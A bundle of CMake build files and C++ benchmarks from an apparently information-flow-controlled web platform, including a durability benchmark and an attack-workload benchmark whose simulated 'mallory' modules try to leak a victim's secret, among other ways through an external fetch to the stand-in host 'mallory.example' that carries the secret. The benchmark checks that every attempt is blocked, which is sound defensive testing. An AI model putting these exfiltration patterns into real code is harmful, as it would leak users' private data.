