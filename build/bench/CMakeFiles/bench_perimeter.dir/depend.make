# Empty dependencies file for bench_perimeter.
# This may be replaced when dependencies are built.
