file(REMOVE_RECURSE
  "CMakeFiles/bench_fs.dir/bench_fs.cpp.o"
  "CMakeFiles/bench_fs.dir/bench_fs.cpp.o.d"
  "bench_fs"
  "bench_fs.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fs.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
