file(REMOVE_RECURSE
  "CMakeFiles/bench_labels.dir/bench_labels.cpp.o"
  "CMakeFiles/bench_labels.dir/bench_labels.cpp.o.d"
  "bench_labels"
  "bench_labels.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_labels.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
