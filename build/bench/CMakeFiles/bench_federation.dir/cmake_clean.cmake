file(REMOVE_RECURSE
  "CMakeFiles/bench_federation.dir/bench_federation.cpp.o"
  "CMakeFiles/bench_federation.dir/bench_federation.cpp.o.d"
  "bench_federation"
  "bench_federation.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_federation.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
