
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/bench_federation.cpp" "bench/CMakeFiles/bench_federation.dir/bench_federation.cpp.o" "gcc" "bench/CMakeFiles/bench_federation.dir/bench_federation.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/CMakeFiles/w5_apps.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_fed.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_rank.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_core.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_store.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_net.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_os.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_difc.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
