# Empty dependencies file for bench_gateway.
# This may be replaced when dependencies are built.
