file(REMOVE_RECURSE
  "CMakeFiles/bench_declassify.dir/bench_declassify.cpp.o"
  "CMakeFiles/bench_declassify.dir/bench_declassify.cpp.o.d"
  "bench_declassify"
  "bench_declassify.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_declassify.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
