# Empty dependencies file for bench_declassify.
# This may be replaced when dependencies are built.
