
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/apps_test.cpp" "tests/CMakeFiles/w5_tests.dir/apps_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/apps_test.cpp.o.d"
  "/root/repo/tests/call_module_test.cpp" "tests/CMakeFiles/w5_tests.dir/call_module_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/call_module_test.cpp.o.d"
  "/root/repo/tests/core_auth_test.cpp" "tests/CMakeFiles/w5_tests.dir/core_auth_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/core_auth_test.cpp.o.d"
  "/root/repo/tests/core_declassifier_test.cpp" "tests/CMakeFiles/w5_tests.dir/core_declassifier_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/core_declassifier_test.cpp.o.d"
  "/root/repo/tests/core_gateway_test.cpp" "tests/CMakeFiles/w5_tests.dir/core_gateway_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/core_gateway_test.cpp.o.d"
  "/root/repo/tests/difc_endpoint_test.cpp" "tests/CMakeFiles/w5_tests.dir/difc_endpoint_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/difc_endpoint_test.cpp.o.d"
  "/root/repo/tests/difc_label_test.cpp" "tests/CMakeFiles/w5_tests.dir/difc_label_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/difc_label_test.cpp.o.d"
  "/root/repo/tests/difc_state_test.cpp" "tests/CMakeFiles/w5_tests.dir/difc_state_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/difc_state_test.cpp.o.d"
  "/root/repo/tests/e2e_tcp_test.cpp" "tests/CMakeFiles/w5_tests.dir/e2e_tcp_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/e2e_tcp_test.cpp.o.d"
  "/root/repo/tests/endorse_endpoint_test.cpp" "tests/CMakeFiles/w5_tests.dir/endorse_endpoint_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/endorse_endpoint_test.cpp.o.d"
  "/root/repo/tests/fed_test.cpp" "tests/CMakeFiles/w5_tests.dir/fed_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/fed_test.cpp.o.d"
  "/root/repo/tests/gateway_headers_test.cpp" "tests/CMakeFiles/w5_tests.dir/gateway_headers_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/gateway_headers_test.cpp.o.d"
  "/root/repo/tests/integrity_protection_test.cpp" "tests/CMakeFiles/w5_tests.dir/integrity_protection_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/integrity_protection_test.cpp.o.d"
  "/root/repo/tests/invitations_test.cpp" "tests/CMakeFiles/w5_tests.dir/invitations_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/invitations_test.cpp.o.d"
  "/root/repo/tests/net_client_test.cpp" "tests/CMakeFiles/w5_tests.dir/net_client_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/net_client_test.cpp.o.d"
  "/root/repo/tests/net_http_test.cpp" "tests/CMakeFiles/w5_tests.dir/net_http_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/net_http_test.cpp.o.d"
  "/root/repo/tests/net_server_test.cpp" "tests/CMakeFiles/w5_tests.dir/net_server_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/net_server_test.cpp.o.d"
  "/root/repo/tests/net_uri_test.cpp" "tests/CMakeFiles/w5_tests.dir/net_uri_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/net_uri_test.cpp.o.d"
  "/root/repo/tests/os_filesystem_test.cpp" "tests/CMakeFiles/w5_tests.dir/os_filesystem_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/os_filesystem_test.cpp.o.d"
  "/root/repo/tests/os_ipc_test.cpp" "tests/CMakeFiles/w5_tests.dir/os_ipc_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/os_ipc_test.cpp.o.d"
  "/root/repo/tests/os_kernel_test.cpp" "tests/CMakeFiles/w5_tests.dir/os_kernel_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/os_kernel_test.cpp.o.d"
  "/root/repo/tests/os_resources_test.cpp" "tests/CMakeFiles/w5_tests.dir/os_resources_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/os_resources_test.cpp.o.d"
  "/root/repo/tests/os_syscalls_test.cpp" "tests/CMakeFiles/w5_tests.dir/os_syscalls_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/os_syscalls_test.cpp.o.d"
  "/root/repo/tests/persistence_groups_test.cpp" "tests/CMakeFiles/w5_tests.dir/persistence_groups_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/persistence_groups_test.cpp.o.d"
  "/root/repo/tests/platform_extras_test.cpp" "tests/CMakeFiles/w5_tests.dir/platform_extras_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/platform_extras_test.cpp.o.d"
  "/root/repo/tests/portability_test.cpp" "tests/CMakeFiles/w5_tests.dir/portability_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/portability_test.cpp.o.d"
  "/root/repo/tests/property_test.cpp" "tests/CMakeFiles/w5_tests.dir/property_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/property_test.cpp.o.d"
  "/root/repo/tests/rank_test.cpp" "tests/CMakeFiles/w5_tests.dir/rank_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/rank_test.cpp.o.d"
  "/root/repo/tests/robustness_test.cpp" "tests/CMakeFiles/w5_tests.dir/robustness_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/robustness_test.cpp.o.d"
  "/root/repo/tests/sanitizer_property_test.cpp" "tests/CMakeFiles/w5_tests.dir/sanitizer_property_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/sanitizer_property_test.cpp.o.d"
  "/root/repo/tests/store_test.cpp" "tests/CMakeFiles/w5_tests.dir/store_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/store_test.cpp.o.d"
  "/root/repo/tests/util_bytes_test.cpp" "tests/CMakeFiles/w5_tests.dir/util_bytes_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/util_bytes_test.cpp.o.d"
  "/root/repo/tests/util_json_test.cpp" "tests/CMakeFiles/w5_tests.dir/util_json_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/util_json_test.cpp.o.d"
  "/root/repo/tests/util_misc_test.cpp" "tests/CMakeFiles/w5_tests.dir/util_misc_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/util_misc_test.cpp.o.d"
  "/root/repo/tests/util_sha256_test.cpp" "tests/CMakeFiles/w5_tests.dir/util_sha256_test.cpp.o" "gcc" "tests/CMakeFiles/w5_tests.dir/util_sha256_test.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/CMakeFiles/w5_apps.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_fed.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_rank.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_core.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_store.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_net.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_os.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_difc.dir/DependInfo.cmake"
  "/root/repo/build/src/CMakeFiles/w5_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
