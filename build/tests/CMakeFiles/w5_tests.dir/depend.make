# Empty dependencies file for w5_tests.
# This may be replaced when dependencies are built.
