file(REMOVE_RECURSE
  "CMakeFiles/example_code_search.dir/code_search.cpp.o"
  "CMakeFiles/example_code_search.dir/code_search.cpp.o.d"
  "example_code_search"
  "example_code_search.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_code_search.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
