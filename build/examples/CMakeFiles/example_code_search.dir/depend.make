# Empty dependencies file for example_code_search.
# This may be replaced when dependencies are built.
