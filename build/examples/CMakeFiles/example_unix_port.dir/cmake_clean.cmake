file(REMOVE_RECURSE
  "CMakeFiles/example_unix_port.dir/unix_port.cpp.o"
  "CMakeFiles/example_unix_port.dir/unix_port.cpp.o.d"
  "example_unix_port"
  "example_unix_port.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_unix_port.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
