# Empty dependencies file for example_unix_port.
# This may be replaced when dependencies are built.
