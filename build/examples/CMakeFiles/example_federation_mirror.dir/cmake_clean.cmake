file(REMOVE_RECURSE
  "CMakeFiles/example_federation_mirror.dir/federation_mirror.cpp.o"
  "CMakeFiles/example_federation_mirror.dir/federation_mirror.cpp.o.d"
  "example_federation_mirror"
  "example_federation_mirror.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_federation_mirror.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
