# Empty dependencies file for example_federation_mirror.
# This may be replaced when dependencies are built.
