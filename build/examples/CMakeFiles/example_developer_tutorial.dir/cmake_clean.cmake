file(REMOVE_RECURSE
  "CMakeFiles/example_developer_tutorial.dir/developer_tutorial.cpp.o"
  "CMakeFiles/example_developer_tutorial.dir/developer_tutorial.cpp.o.d"
  "example_developer_tutorial"
  "example_developer_tutorial.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_developer_tutorial.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
