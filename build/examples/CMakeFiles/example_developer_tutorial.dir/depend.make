# Empty dependencies file for example_developer_tutorial.
# This may be replaced when dependencies are built.
