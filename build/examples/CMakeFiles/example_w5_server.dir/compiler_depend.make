# Empty compiler generated dependencies file for example_w5_server.
# This may be replaced when dependencies are built.
