file(REMOVE_RECURSE
  "CMakeFiles/example_w5_server.dir/w5_server.cpp.o"
  "CMakeFiles/example_w5_server.dir/w5_server.cpp.o.d"
  "example_w5_server"
  "example_w5_server.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_w5_server.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
