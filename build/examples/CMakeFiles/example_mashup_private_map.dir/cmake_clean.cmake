file(REMOVE_RECURSE
  "CMakeFiles/example_mashup_private_map.dir/mashup_private_map.cpp.o"
  "CMakeFiles/example_mashup_private_map.dir/mashup_private_map.cpp.o.d"
  "example_mashup_private_map"
  "example_mashup_private_map.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_mashup_private_map.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
