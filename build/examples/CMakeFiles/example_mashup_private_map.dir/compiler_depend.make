# Empty compiler generated dependencies file for example_mashup_private_map.
# This may be replaced when dependencies are built.
