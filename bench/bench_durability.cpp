// E15 — the price of durability (DESIGN.md §13, EXPERIMENTS.md E15).
//
//   BM_DurablePut/<mode> — labeled store puts through the full gateway
//       with the WAL in each durability mode (0=off, 1=none, 2=interval,
//       3=fsync); p99_us and put_per_s counters. Group commit is the
//       whole story here: in fsync mode every put blocks on a batch
//       fsync, so the gate checks p99 against the in-memory baseline.
//   BM_ConcurrentDurablePut — the group-commit payoff: N threads share
//       each fsync, so per-put cost falls as concurrency rises.
//   BM_Recovery/<entries> — cold-start recovery time vs WAL length
//       (snapshot disabled, pure replay).
//   BM_Checkpoint — rotate + full labeled snapshot + GC.
//
// scripts/bench_json.sh durability gates on: fsync-mode p99 within
// W5_DURABILITY_P99_FACTOR (default 3x) of the in-memory baseline, and
// recovery of the 4096-entry log under W5_RECOVERY_BUDGET_MS.
#include <benchmark/benchmark.h>

#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <filesystem>
#include <string>
#include <thread>
#include <vector>

#include "core/provider.h"
#include "net/fault.h"
#include "store/durable_store.h"
#include "store/wal.h"
#include "util/clock.h"

namespace {

namespace fs = std::filesystem;
using w5::net::Method;
using w5::platform::Provider;
using w5::platform::ProviderConfig;
using w5::store::DurabilityMode;

class ScratchDir {
 public:
  ScratchDir() {
    static std::atomic<int> counter{0};
    path_ = (fs::temp_directory_path() /
             ("w5_bench_dur_" + std::to_string(::getpid()) + "_" +
              std::to_string(counter++)))
                .string();
    fs::remove_all(path_);
  }
  ~ScratchDir() { fs::remove_all(path_); }
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};

// mode_arg: 0 = durability off (in-memory baseline), 1..3 = WAL modes.
ProviderConfig config_for(int mode_arg, const std::string& dir) {
  ProviderConfig config;
  if (mode_arg == 0) return config;
  config.durability.enabled = true;
  config.durability.dir = dir;
  config.durability.mode = mode_arg == 1   ? DurabilityMode::kNone
                           : mode_arg == 2 ? DurabilityMode::kInterval
                                           : DurabilityMode::kFsync;
  config.durability.snapshot_every_entries = 0;  // isolate the WAL cost
  return config;
}

const char* mode_label(int mode_arg) {
  switch (mode_arg) {
    case 0: return "mode=off";
    case 1: return "mode=none";
    case 2: return "mode=interval";
    default: return "mode=fsync";
  }
}

void BM_DurablePut(benchmark::State& state) {
  const int mode_arg = static_cast<int>(state.range(0));
  ScratchDir dir;
  w5::util::WallClock clock;
  Provider provider(config_for(mode_arg, dir.path()), clock);
  (void)provider.signup("bob", "password");
  const std::string bob = provider.login("bob", "password").value();
  const std::string body = R"({"title":"bench","payload":")" +
                           std::string(128, 'x') + R"("})";

  std::vector<w5::util::Micros> latencies;
  latencies.reserve(1 << 16);
  std::uint64_t failed = 0;
  int i = 0;
  for (auto _ : state) {
    const w5::util::Micros start = clock.now();
    const auto response = provider.http(
        Method::kPost, "/data/photos/p" + std::to_string(i++), body, bob);
    latencies.push_back(clock.now() - start);
    if (response.status != 201) ++failed;
  }
  if (failed != 0) state.SkipWithError("puts failed");
  std::sort(latencies.begin(), latencies.end());
  state.counters["p99_us"] = static_cast<double>(
      latencies.empty() ? 0 : latencies[latencies.size() * 99 / 100]);
  state.counters["put_per_s"] = benchmark::Counter(
      static_cast<double>(latencies.size()), benchmark::Counter::kIsRate);
  state.SetLabel(mode_label(mode_arg));
}
BENCHMARK(BM_DurablePut)->DenseRange(0, 3)->Unit(benchmark::kMicrosecond);

// Group commit under contention — the E15 gate scenario. Eight request
// threads put concurrently; in fsync mode they share the flusher's
// batches, so one fsync amortizes across every put that arrived while
// the previous one was in flight, and the per-put p99 lands near the
// in-memory baseline's instead of one-fsync-per-put territory.
// args: (mode_arg, threads).
void BM_GroupCommitPut(benchmark::State& state) {
  const int mode_arg = static_cast<int>(state.range(0));
  const int threads = static_cast<int>(state.range(1));
  ScratchDir dir;
  w5::util::WallClock clock;
  Provider provider(config_for(mode_arg, dir.path()), clock);
  (void)provider.signup("bob", "password");
  const std::string bob = provider.login("bob", "password").value();
  const std::string body = R"({"n":1})";

  std::vector<w5::util::Micros> latencies;
  std::uint64_t round = 0;
  for (auto _ : state) {
    std::vector<std::vector<w5::util::Micros>> per_thread(
        static_cast<std::size_t>(threads));
    std::vector<std::thread> pool;
    std::atomic<int> next{0};
    const int per_round = threads * 64;
    for (int t = 0; t < threads; ++t) {
      pool.emplace_back([&, t] {
        for (int i = next++; i < per_round; i = next++) {
          const w5::util::Micros start = clock.now();
          (void)provider.http(Method::kPost,
                              "/data/photos/c" + std::to_string(round) + "-" +
                                  std::to_string(i),
                              body, bob);
          per_thread[static_cast<std::size_t>(t)].push_back(clock.now() -
                                                            start);
        }
      });
    }
    for (auto& worker : pool) worker.join();
    for (const auto& chunk : per_thread)
      latencies.insert(latencies.end(), chunk.begin(), chunk.end());
    ++round;
    state.SetItemsProcessed(state.items_processed() + per_round);
  }
  std::sort(latencies.begin(), latencies.end());
  state.counters["p99_us"] = static_cast<double>(
      latencies.empty() ? 0 : latencies[latencies.size() * 99 / 100]);
  state.counters["put_per_s"] = benchmark::Counter(
      static_cast<double>(latencies.size()), benchmark::Counter::kIsRate);
  state.SetLabel(std::string(mode_label(mode_arg)) +
                 " threads=" + std::to_string(threads));
}
BENCHMARK(BM_GroupCommitPut)
    ->Args({0, 8})
    ->Args({3, 1})
    ->Args({3, 4})
    ->Args({3, 8})
    ->Unit(benchmark::kMillisecond)
    ->UseRealTime();

// The device floor: one small append + fsync, nothing else. Any durable
// put must pay at least this once, so the E15 gate compares group-commit
// p99 against (in-memory p99 + this floor) — "within 3× of the
// in-memory baseline" once the irreducible device sync is accounted for.
void BM_RawFsync(benchmark::State& state) {
  ScratchDir dir;
  fs::create_directories(dir.path());
  auto file =
      w5::net::FaultyFile::create(dir.path() + "/floor.bin", {}).value();
  const std::string block(256, 'w');
  w5::util::WallClock clock;
  std::vector<w5::util::Micros> latencies;
  latencies.reserve(1 << 14);
  for (auto _ : state) {
    const w5::util::Micros start = clock.now();
    if (!file.write_all(block).ok() || !file.sync().ok())
      state.SkipWithError("write+fsync failed");
    latencies.push_back(clock.now() - start);
  }
  std::sort(latencies.begin(), latencies.end());
  state.counters["p99_us"] = static_cast<double>(
      latencies.empty() ? 0 : latencies[latencies.size() * 99 / 100]);
}
BENCHMARK(BM_RawFsync)->Unit(benchmark::kMicrosecond);

void BM_Recovery(benchmark::State& state) {
  const auto entries = static_cast<std::size_t>(state.range(0));
  ScratchDir dir;
  w5::util::WallClock clock;
  {
    Provider provider(config_for(2, dir.path()), clock);
    (void)provider.signup("bob", "password");
    const std::string bob = provider.login("bob", "password").value();
    const std::string body = R"({"n":1})";
    // signup logged a handful of entries already; fill to the target.
    std::size_t i = 0;
    while (provider.durable()->last_seq() < entries)
      (void)provider.http(Method::kPost,
                          "/data/photos/r" + std::to_string(i++), body, bob);
  }
  double recovered_entries = 0;
  for (auto _ : state) {
    Provider provider(config_for(3, dir.path()), clock);
    if (!provider.durability_status().ok())
      state.SkipWithError("recovery failed");
    recovered_entries =
        static_cast<double>(provider.recovery_stats().replayed_entries);
    benchmark::DoNotOptimize(provider.recovery_stats().last_seq);
  }
  state.counters["replayed_entries"] = recovered_entries;
  state.counters["entries_per_s"] = benchmark::Counter(
      recovered_entries * static_cast<double>(state.iterations()),
      benchmark::Counter::kIsRate);
}
BENCHMARK(BM_Recovery)->Arg(256)->Arg(4096)->Unit(benchmark::kMillisecond);

void BM_Checkpoint(benchmark::State& state) {
  ScratchDir dir;
  w5::util::WallClock clock;
  Provider provider(config_for(3, dir.path()), clock);
  (void)provider.signup("bob", "password");
  const std::string bob = provider.login("bob", "password").value();
  for (int i = 0; i < 200; ++i)
    (void)provider.http(Method::kPost, "/data/photos/s" + std::to_string(i),
                        R"({"n":1})", bob);
  for (auto _ : state) {
    if (!provider.checkpoint().ok()) state.SkipWithError("checkpoint failed");
  }
  state.SetLabel("200 records + accounts + fs");
}
BENCHMARK(BM_Checkpoint)->Unit(benchmark::kMillisecond);

}  // namespace
