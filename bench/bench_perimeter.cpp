// E7 — the attack workload (§3.1 "theft regardless of movement").
//
// Malicious modules attempt every exfiltration channel the paper worries
// about; the bench measures the cost of *refusing* each one and aborts if
// a single attempt succeeds (blocked-rate must be 100%).
#include <benchmark/benchmark.h>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

namespace {

using w5::net::HttpRequest;
using w5::net::HttpResponse;
using w5::net::Method;
using w5::platform::AppContext;
using w5::platform::Module;
using w5::platform::Provider;
using w5::platform::ProviderConfig;

struct AttackFixture {
  w5::util::WallClock clock;
  Provider provider{ProviderConfig{}, clock};
  std::string victim_session;
  std::string attacker_session;
  std::size_t external_calls = 0;

  AttackFixture() {
    (void)provider.signup("victim", "password");
    (void)provider.signup("attacker", "password");
    victim_session = provider.login("victim", "password").value();
    attacker_session = provider.login("attacker", "password").value();
    (void)provider.http(Method::kPost, "/data/secrets/s1",
                        R"({"secret":"the victim's private data"})",
                        victim_session);
    provider.set_external_fetcher(
        [this](const std::string&) -> w5::util::Result<std::string> {
          ++external_calls;
          return std::string("ok");
        });
  }

  HttpRequest request_as_attacker(const std::string& target) {
    HttpRequest request;
    request.method = Method::kGet;
    request.target = target;
    request.parsed = *w5::net::parse_request_target(target);
    request.headers.set("Cookie", "w5session=" + attacker_session);
    return request;
  }
};

void add_module(Provider& provider, const std::string& name,
                w5::platform::AppHandler handler) {
  Module module;
  module.developer = "mallory";
  module.name = name;
  module.version = "1.0";
  module.handler = std::move(handler);
  (void)provider.modules().add(module);
}

// Attack 1: read the secret, return it in the response body.
void BM_AttackDirectResponse(benchmark::State& state) {
  AttackFixture fx;
  add_module(fx.provider, "direct", [](AppContext& ctx) {
    auto secret = ctx.get_record("secrets", "s1");
    return HttpResponse::text(
        200, secret.ok() ? secret.value().data.dump() : "none");
  });
  const auto request = fx.request_as_attacker("/dev/mallory/direct");
  std::int64_t blocked = 0;
  for (auto _ : state) {
    auto response = fx.provider.handle(request);
    if (response.status == 403 &&
        response.body.find("victim") == std::string::npos)
      ++blocked;
  }
  if (blocked != state.iterations()) state.SkipWithError("LEAK");
  state.counters["blocked_pct"] = 100.0;
}
BENCHMARK(BM_AttackDirectResponse);

// Attack 2: read the secret, ship it to an external server.
void BM_AttackExternalExfil(benchmark::State& state) {
  AttackFixture fx;
  add_module(fx.provider, "exfil", [](AppContext& ctx) {
    auto secret = ctx.get_record("secrets", "s1");
    auto sent = ctx.fetch_external(
        "mallory.example/?x=" +
        (secret.ok() ? secret.value().data.dump() : ""));
    return HttpResponse::text(200, sent.ok() ? "sent" : "blocked");
  });
  const auto request = fx.request_as_attacker("/dev/mallory/exfil");
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.provider.handle(request).status);
  }
  if (fx.external_calls != 0) state.SkipWithError("LEAK via external");
  state.counters["external_calls"] = 0;
}
BENCHMARK(BM_AttackExternalExfil);

// Attack 3: copy the secret into a public record for later pickup.
void BM_AttackPublicStash(benchmark::State& state) {
  AttackFixture fx;
  add_module(fx.provider, "stash", [](AppContext& ctx) {
    auto secret = ctx.get_record("secrets", "s1");
    w5::store::Record drop;
    drop.collection = "public";
    drop.id = "drop";
    drop.owner = "mallory";
    drop.data = secret.ok() ? secret.value().data : w5::util::Json();
    auto written = ctx.put_record(std::move(drop));
    return HttpResponse::text(200, written.ok() ? "stashed" : "blocked");
  });
  const auto request = fx.request_as_attacker("/dev/mallory/stash");
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.provider.handle(request).status);
  }
  if (fx.provider.store().get(w5::os::kKernelPid, "public", "drop").ok())
    state.SkipWithError("LEAK via stash");
}
BENCHMARK(BM_AttackPublicStash);

// Attack 4: vandalize (overwrite) the victim's record.
void BM_AttackVandalism(benchmark::State& state) {
  AttackFixture fx;
  add_module(fx.provider, "vandal", [](AppContext& ctx) {
    auto secret = ctx.get_record("secrets", "s1");
    if (secret.ok()) {
      secret.value().data["secret"] = "DEFACED";
      (void)ctx.put_record(secret.value());
    }
    return HttpResponse::text(200, "done");
  });
  const auto request = fx.request_as_attacker("/dev/mallory/vandal");
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.provider.handle(request).status);
  }
  const auto record =
      fx.provider.store().get(w5::os::kKernelPid, "secrets", "s1");
  if (!record.ok() ||
      record.value().data.at("secret").as_string() != "the victim's private data")
    state.SkipWithError("LEAK via vandalism");
}
BENCHMARK(BM_AttackVandalism);

// Attack 5: covert count probe — infer hidden data volume via count().
void BM_AttackCountProbe(benchmark::State& state) {
  AttackFixture fx;
  add_module(fx.provider, "probe", [](AppContext& ctx) {
    // Without reading (and so without contaminating itself), count what
    // exists. The clearance-bounded count sees its own world only.
    auto n = ctx.count("secrets", {});
    return HttpResponse::text(
        200, std::to_string(n.ok() ? n.value() : 0));
  });
  const auto request = fx.request_as_attacker("/dev/mallory/probe");
  for (auto _ : state) {
    auto response = fx.provider.handle(request);
    benchmark::DoNotOptimize(response.body);
  }
  // NOTE: count() is clearance-bounded; with global sec()+ capabilities
  // clearance admits the record's existence (its content stays
  // protected). The stricter posture — rp() tags — removes even
  // existence; asserted in tests, measured here:
  state.counters["existence_visible"] = 1;
}
BENCHMARK(BM_AttackCountProbe);

// Attack 6: confused deputy — invoke a benign viewer app hoping it leaks.
void BM_AttackConfusedDeputy(benchmark::State& state) {
  AttackFixture fx;
  add_module(fx.provider, "benign", [](AppContext& ctx) {
    auto record = ctx.get_record("secrets", "s1");
    if (!record.ok()) return HttpResponse::text(404, "none");
    return HttpResponse::text(200, record.value().data.dump());
  });
  const auto request = fx.request_as_attacker("/dev/mallory/benign");
  std::int64_t blocked = 0;
  for (auto _ : state) {
    auto response = fx.provider.handle(request);
    if (response.body.find("victim") == std::string::npos) ++blocked;
  }
  if (blocked != state.iterations()) state.SkipWithError("LEAK via deputy");
}
BENCHMARK(BM_AttackConfusedDeputy);

// Baseline for comparison: the legitimate owner doing the same read.
void BM_LegitimateOwnerRead(benchmark::State& state) {
  AttackFixture fx;
  add_module(fx.provider, "benign", [](AppContext& ctx) {
    auto record = ctx.get_record("secrets", "s1");
    if (!record.ok()) return HttpResponse::text(404, "none");
    return HttpResponse::text(200, record.value().data.dump());
  });
  HttpRequest request;
  request.method = Method::kGet;
  request.target = "/dev/mallory/benign";
  request.parsed = *w5::net::parse_request_target(request.target);
  request.headers.set("Cookie", "w5session=" + fx.victim_session);
  for (auto _ : state) {
    auto response = fx.provider.handle(request);
    if (response.status != 200) state.SkipWithError("owner blocked!");
  }
}
BENCHMARK(BM_LegitimateOwnerRead);

}  // namespace
