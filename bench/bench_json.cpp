// Supplemental — JSON substrate throughput (every record body, policy,
// snapshot, and federation message rides on it).
#include <benchmark/benchmark.h>

#include "util/json.h"
#include "util/rng.h"

namespace {

using w5::util::Json;

Json make_document(std::size_t records, w5::util::Rng& rng) {
  Json array = Json::array();
  for (std::size_t i = 0; i < records; ++i) {
    Json record;
    record["id"] = "r" + std::to_string(i);
    record["title"] = rng.next_string(24);
    record["rating"] = static_cast<int>(rng.next_below(6));
    record["tags"] = Json::array(
        {Json(rng.next_string(6)), Json(rng.next_string(6))});
    Json nested;
    nested["width"] = 640;
